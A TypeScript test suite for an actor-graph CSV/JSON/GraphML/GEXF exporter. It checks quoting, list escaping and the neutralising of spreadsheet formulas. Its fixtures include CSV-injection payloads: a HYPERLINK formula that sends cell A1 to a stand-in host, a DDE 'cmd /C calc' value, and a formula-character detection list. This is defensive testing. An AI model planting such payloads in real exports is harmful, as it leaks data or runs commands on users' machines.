import { join } from 'node:path';
import { MultiGraph } from 'graphology';
import { testNode } from '../helpers/dataset.ts';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ActorGraph } from '../../src/core/graph/actorGraph.ts';
import { computeActorMetrics } from '../../src/core/graph/metrics.ts';
import { buildGraph } from '../../src/core/pipeline/buildGraph.ts';
import {
  csvField,
  formatCsvList,
  neutraliseFormula,
  parseCsvList,
  parseCsvText,
  writeCsvEdges,
  writeCsvNodes,
} from '../../src/core/export/csv.ts';
import {
  EXPORT_FORMATS,
  exportFilePath,
  exportFormat,
  formatOfFileName,
} from '../../src/core/export/formats.ts';
import type { EdgeAttributes, NodeAttributes } from '../../src/core/model.ts';
import { readDataDir } from '../../src/node/readData.ts';
import { ROOT } from '../helpers/run.ts';

/**
 * A strict RFC 4180 reader: records end with CRLF, quoted fields may hold anything with
 * quotes doubled, an unquoted field holds no quote, CR or LF. Throws on anything else.
 */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error('unterminated quoted field');
        field += text.slice(i, quote);
        i = quote + 1;
        if (text[i] === '"') {
          field += '"';
          i++;
        } else break;
      }
    } else {
      const end = text.slice(i).search(/[,\r\n"]/);
      field = end < 0 ? text.slice(i) : text.slice(i, i + end);
      i += field.length;
      if (text[i] === '"') throw new Error(`stray quote at ${i}`);
    }
    record.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else throw new Error(`expected a comma or CRLF at ${i}, found ${JSON.stringify(text[i])}`);
  }
  if (record.length) throw new Error('the last record does not end with CRLF');
  return records;
}

const rows = (text: string) => {
  const [header, ...records] = readCsv(text);
  for (const r of records) expect(r).toHaveLength(header!.length);
  return records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
};

describe('CSV export of the seed graph', () => {
  let graph: ActorGraph;
  let edges: string;
  let nodes: string;
  beforeAll(async () => {
    // The annotations alone: a GDELT layer imported into graph-data/events/ is not the seed's.
    graph = buildGraph({
      ...(await readDataDir(join(ROOT, 'graph-data'))).files,
      events: undefined,
    }).graph!;
    edges = writeCsvEdges(graph);
    nodes = writeCsvNodes(graph);
  });

  it('writes the edge list: one row per edge, every column as documented', () => {
    expect(edges.split('\r\n')[0]).toBe(
      'id,source,target,type,relation,label,weight,evidenceCount,firstDate,lastDate,articles,sourceLabel,targetLabel',
    );
    const records = rows(edges);
    expect(records).toHaveLength(graph.size);
    for (const r of records) {
      const a = graph.getEdgeAttributes(r.id!);
      expect([r.source, r.target]).toEqual([graph.source(r.id!), graph.target(r.id!)]);
      expect(r.type).toBe(graph.isUndirected(r.id!) ? 'undirected' : 'directed');
      expect([r.relation, r.label]).toEqual([a.relation, a.label]);
      expect(Number(r.weight)).toBe(a.weight);
      expect(Number(r.evidenceCount)).toBe(a.evidence.length);
      expect([r.firstDate, r.lastDate]).toEqual([a.firstDate ?? '', a.lastDate ?? '']);
      expect(parseCsvList(r.articles!)).toEqual(a.articles);
      expect(r.sourceLabel).toBe(graph.getNodeAttribute(r.source!, 'label'));
      expect(r.targetLabel).toBe(graph.getNodeAttribute(r.target!, 'label'));
    }
  });

  it('writes the node list with the degree figures', () => {
    const records = rows(nodes);
    expect(records.map((r) => r.id)).toEqual(graph.nodes());
    expect(Object.keys(records[0]!)).toEqual([
      'id',
      'label',
      'kind',
      'affiliation',
      'aliases',
      'wikidata',
      'note',
      'degree',
      'evidenceCount',
      'degree_cooperates-with',
      'degree_opposes',
      'degree_proposes-to',
    ]);
    for (const r of records) {
      const a = graph.getNodeAttributes(r.id!);
      expect([r.label, r.kind, r.affiliation]).toEqual([a.label, a.kind, a.affiliation ?? '']);
      expect(r.aliases).toBe(a.aliases.join('|')); // nothing to escape or neutralise in the seed
      expect(parseCsvList(r.aliases!)).toEqual(a.aliases);
      expect(Number(r.degree)).toBe(a.degree);
      expect(Number(r.evidenceCount)).toBe(a.evidenceCount);
      expect(Number(r['degree_opposes'])).toBe(a.degreeByRelation.opposes);
    }
  });

  it('ends every line with CRLF, and has no bare LF outside quoted fields', () => {
    for (const text of [edges, nodes]) {
      expect(text.endsWith('\r\n')).toBe(true);
      expect(text.replace(/"(?:[^"]|"")*"/g, '')).not.toMatch(/[^\r]\n|\r[^\n]/);
    }
  });
});

describe('CSV export of edge cases', () => {
  const graph: ActorGraph = new MultiGraph({ type: 'mixed', allowSelfLoops: false });
  const node = (id: string, a: Partial<NodeAttributes>) =>
    graph.addNode(id, testNode(id, { degreeByRelation: { opposes: 0 }, ...a }));
  node('a', { label: 'Comma, "Quote" <b>&', aliases: ['One', 'Two, three'] });
  node('b', { label: 'Line\r\nbreak and Bêta 北京', affiliation: 'a' });
  node('lonely', {});
  const attributes = (weight: number, firstDate: string | null): EdgeAttributes => ({
    relation: 'opposes',
    label: 'opposes',
    weight,
    evidence: [],
    articles: ['x', 'y'],
    firstDate,
    lastDate: firstDate,
    color: '#000',
    size: 1,
  });
  graph.addDirectedEdgeWithKey('opposes:a:b', 'a', 'b', attributes(2, '2020-01'));
  graph.addDirectedEdgeWithKey('opposes:b:a', 'b', 'a', attributes(1, null));
  computeActorMetrics(graph);

  it('quotes fields with a comma, quote, CR or LF, and only those', () => {
    const nodes = writeCsvNodes(graph);
    expect(nodes).toContain('\r\na,"Comma, ""Quote"" <b>&",state,,"One|Two, three",,,2,3,2\r\n');
    expect(nodes).toContain('\r\nb,"Line\r\nbreak and Bêta 北京",state,a,,');
    expect(rows(nodes).map((r) => r.label)).toEqual([
      'Comma, "Quote" <b>&',
      'Line\r\nbreak and Bêta 北京',
      'lonely',
    ]);
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a"b')).toBe('"a""b"');
    expect(csvField('a\rb')).toBe('"a\rb"');
    expect(csvField(undefined)).toBe('');
    expect(csvField(2.5)).toBe('2.5');
  });

  it('writes both directions of a pair, empty fields for null dates, and the actor alone', () => {
    const edges = rows(writeCsvEdges(graph));
    expect(edges.map((r) => [r.id, r.source, r.target, r.firstDate])).toEqual([
      ['opposes:a:b', 'a', 'b', '2020-01'],
      ['opposes:b:a', 'b', 'a', ''],
    ]);
    expect(edges[0]!.sourceLabel).toBe('Comma, "Quote" <b>&');
    expect(rows(writeCsvNodes(graph)).find((r) => r.id === 'lonely')).toMatchObject({
      degree: '0',
      affiliation: '',
      aliases: '',
    });
  });

  it('takes another list separator and an optional byte-order mark', () => {
    const nodes = writeCsvNodes(graph, { listSeparator: ';', bom: true });
    expect(nodes.startsWith('\ufeffid,label,')).toBe(true);
    expect(nodes).toContain(',"One;Two, three",');
    for (const listSeparator of ['; ', '', '\\', '=', '-', '\t']) {
      expect(() => writeCsvNodes(graph, { listSeparator })).toThrow(/listSeparator/);
    }
  });
});

describe('CSV formulas and lists', () => {
  // OWASP's formula characters, the line feed and NUL, and the full-width signs.
  const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\u0000', '＝', '＋', '－', '＠'];
  // eslint-disable-next-line no-control-regex
  const FORMULA = /^[=+\-@\t\r\n\u0000＝＋－＠]/;
  const graph: ActorGraph = new MultiGraph({ type: 'mixed', allowSelfLoops: false });
  graph.addNode(
    '=id',
    testNode('=id', {
      label: '=HYPERLINK("http://x.test/?"&A1,"Click")',
      kind: '+kind' as NodeAttributes['kind'],
      affiliation: '@aff',
      aliases: ["-2+3+cmd|' /C calc'!A0", 'Moscow', '\tTab', 'a|b', 'back\\slash', ''],
      wikidata: '＝Q1',
      note: '\r\n=note',
    }),
  );
  graph.addNode('@b', testNode('@b', { label: "'=apostrophe", aliases: ["'Ndrangheta"] }));
  graph.addNode('plain', testNode('plain', { label: 'Plain', x: -12.5, y: -3 }));
  graph.addDirectedEdgeWithKey('=e', '=id', '@b', {
    relation: '-relation',
    label: '@label',
    weight: -2.5, // a number the writer puts in, not text: it stays a number
    evidence: [],
    articles: ['=a1', 'a|2', '-'],
    firstDate: '+2020',
    lastDate: '-2021',
    color: '#000',
    size: 1,
  });
  computeActorMetrics(graph);
  const edges = writeCsvEdges(graph);
  const nodes = writeCsvNodes(graph);

  it('neutralises every text cell that begins with a formula character', () => {
    for (const start of FORMULA_STARTS) {
      expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`);
      expect(parseCsvText(`'${start}x`)).toBe(`${start}x`);
    }
    for (const safe of ['x', 'x=1', ' =x', "'x", '2020-01', '']) {
      expect(neutraliseFormula(safe)).toBe(safe);
    }
    // Apostrophes before a formula character get one more, so that one can always be taken off.
    expect(neutraliseFormula("'=x")).toBe("''=x");
    expect(parseCsvText("''=x")).toBe("'=x");
    expect(parseCsvText("'x")).toBe("'x");

    const [header, ...records] = readCsv(edges);
    const [nodeHeader, ...nodeRecords] = readCsv(nodes);
    for (const record of [header!, nodeHeader!, ...records, ...nodeRecords]) {
      for (const cell of record) {
        if (/^-?\d+(\.\d+)?$/.test(cell)) continue; // numbers the writer puts in
        expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA);
      }
    }
    const edge = rows(edges)[0]!;
    expect(edge).toMatchObject({
      id: "'=e",
      source: "'=id",
      target: "'@b",
      relation: "'-relation",
      label: "'@label",
      weight: '-2.5',
      firstDate: "'+2020",
      lastDate: "'-2021",
      articles: "'=a1|a\\|2|'-",
      sourceLabel: `'=HYPERLINK("http://x.test/?"&A1,"Click")`,
      targetLabel: "''=apostrophe",
    });
    const node = rows(nodes)[0]!;
    expect(node).toMatchObject({
      id: "'=id",
      kind: "'+kind",
      affiliation: "'@aff",
      wikidata: "'＝Q1",
      note: "'\r\n=note",
    });
    expect(node.aliases).toBe("'-2+3+cmd\\|' /C calc'!A0|Moscow|'\tTab|a\\|b|back\\\\slash|");
    expect(rows(nodes)[1]!.aliases).toBe("'Ndrangheta");
  });

  it('gives every text and list back through parseCsvText and parseCsvList', () => {
    for (const r of rows(edges)) {
      const id = parseCsvText(r.id!);
      const a = graph.getEdgeAttributes(id);
      expect([parseCsvText(r.source!), parseCsvText(r.target!)]).toEqual(graph.extremities(id));
      expect([r.relation, r.label, r.firstDate, r.lastDate].map((c) => parseCsvText(c!))).toEqual([
        a.relation,
        a.label,
        a.firstDate,
        a.lastDate,
      ]);
      expect(Number(r.weight)).toBe(a.weight);
      expect(parseCsvList(r.articles!)).toEqual(a.articles);
      expect(parseCsvText(r.sourceLabel!)).toBe(graph.getNodeAttribute(graph.source(id), 'label'));
    }
    for (const r of rows(nodes)) {
      const a = graph.getNodeAttributes(parseCsvText(r.id!));
      for (const key of ['label', 'kind', 'affiliation', 'wikidata', 'note'] as const) {
        expect(parseCsvText(r[key]!)).toBe(a[key] ?? '');
      }
      expect(parseCsvList(r.aliases!)).toEqual(a.aliases);
      expect(Number(r.degree)).toBe(a.degree);
    }
  });

  it('round-trips lists with separators, backslashes, empty items and formula characters', () => {
    expect(formatCsvList(['Moscow', 'Russians'])).toBe('Moscow|Russians');
    expect(formatCsvList(['a|b', 'C:\\x', '=1+1'])).toBe("a\\|b|C:\\\\x|'=1+1");
    const lists: string[][] = [
      [],
      ['one'],
      ['', ''],
      ['', 'a', ''],
      ['|', '\\', '\\|', '|\\', '||', '\\\\'],
      ['x\\', '\\x', 'a\\|b'],
      FORMULA_STARTS.map((c) => `${c}x`),
      ["'=x", "''+y", "'plain", "'", "'|'"],
      ['北京 🚀', 'Comma, "Quote"', 'line\r\nbreak'],
    ];
    for (const list of lists) {
      const cell = formatCsvList(list);
      expect(cell).not.toMatch(FORMULA);
      expect(parseCsvList(cell), JSON.stringify(list)).toEqual(list);
      // Through a whole CSV file too: RFC 4180 quoting on top of the list escaping.
      expect(readCsv(`${csvField(cell)}\r\n`)).toEqual([[cell]]);
      const other = formatCsvList(list, { listSeparator: ';' });
      expect(parseCsvList(other, { listSeparator: ';' })).toEqual(list);
      const raw = formatCsvList(list, { neutraliseFormulas: false });
      expect(parseCsvList(raw, { neutraliseFormulas: false })).toEqual(list);
    }
    expect(formatCsvList(['a;b', '|'], { listSeparator: ';' })).toBe('a\\;b;|');
    expect(parseCsvList('')).toEqual([]);
    expect(formatCsvList([''])).toBe(''); // the one list that does not come back: it reads as []
    expect(formatCsvList([null, undefined, 3])).toBe('||3');
  });

  it('writes text as it is with neutraliseFormulas: false', () => {
    const raw = rows(writeCsvEdges(graph, { neutraliseFormulas: false }))[0]!;
    expect(raw).toMatchObject({ id: '=e', source: '=id', label: '@label', weight: '-2.5' });
    expect(raw.articles).toBe('=a1|a\\|2|-');
    const rawNodes = rows(writeCsvNodes(graph, { neutraliseFormulas: false }));
    expect(rawNodes[0]!.note).toBe('\r\n=note');
    expect(rawNodes[1]!.label).toBe("'=apostrophe");
    expect(parseCsvText(rawNodes[1]!.label!, { neutraliseFormulas: false })).toBe("'=apostrophe");
  });
});

describe('the format registry', () => {
  const graph = new MultiGraph();
  graph.addNode('a', { label: 'A' });
  graph.addNode('b', { label: 'B' });
  graph.addEdgeWithKey('e', 'a', 'b', { relation: 'opposes', weight: 1 });

  it('knows four formats, with extensions and MIME types', () => {
    expect(Object.keys(EXPORT_FORMATS)).toEqual(['gexf', 'graphml', 'json', 'csv']);
    expect(exportFormat('gexf')?.mimeType).toBe('application/gexf+xml');
    expect(exportFormat('xml')).toBeUndefined();
    expect(formatOfFileName('out/Seed.GraphML')?.id).toBe('graphml');
    expect(formatOfFileName('seed')).toBeUndefined();
  });

  it('makes two CSV files, the node list named beside the edge list', () => {
    const files = EXPORT_FORMATS.csv.write(graph);
    expect(files.map((f) => [f.role, f.suffix, f.extension])).toEqual([
      ['edges', '', 'csv'],
      ['nodes', '.nodes', 'csv'],
    ]);
    expect(files.map((f) => exportFilePath('out/graph.csv', f))).toEqual([
      'out/graph.csv',
      'out/graph.nodes.csv',
    ]);
    expect(exportFilePath('out/graph', files[1]!)).toBe('out/graph.nodes.csv');
    expect(files[0]!.content.split('\r\n')).toHaveLength(3);
  });

  it('exports JSON as the graphology serialisation', () => {
    const [file] = EXPORT_FORMATS.json.write(graph);
    expect(JSON.parse(file!.content)).toEqual(graph.export());
  });

  it('passes the options on to the writers', () => {
    const formulas = new MultiGraph();
    formulas.addNode('=a', { label: '@A' });
    const [edges, nodes] = EXPORT_FORMATS.csv.write(formulas);
    expect(edges!.content).toBe(
      'id,source,target,type,relation,label,weight,evidenceCount,firstDate,lastDate,articles,sourceLabel,targetLabel\r\n',
    );
    expect(nodes!.content).toContain("\r\n'=a,'@A,");
    const [, raw] = EXPORT_FORMATS.csv.write(formulas, { neutraliseFormulas: false });
    expect(raw!.content).toContain('\r\n=a,@A,');
    const [graphml] = EXPORT_FORMATS.graphml.write(graph);
    expect(graphml!.content).toContain('<graph id="G" edgedefault="directed">');
    const [gexf] = EXPORT_FORMATS.gexf.write(graph, { lastModified: '2020-01-02', creator: 'me' });
    expect(gexf!.content).toContain('<meta lastmodifieddate="2020-01-02">');
    expect(gexf!.content).toContain('<creator>me</creator>');
  });
});
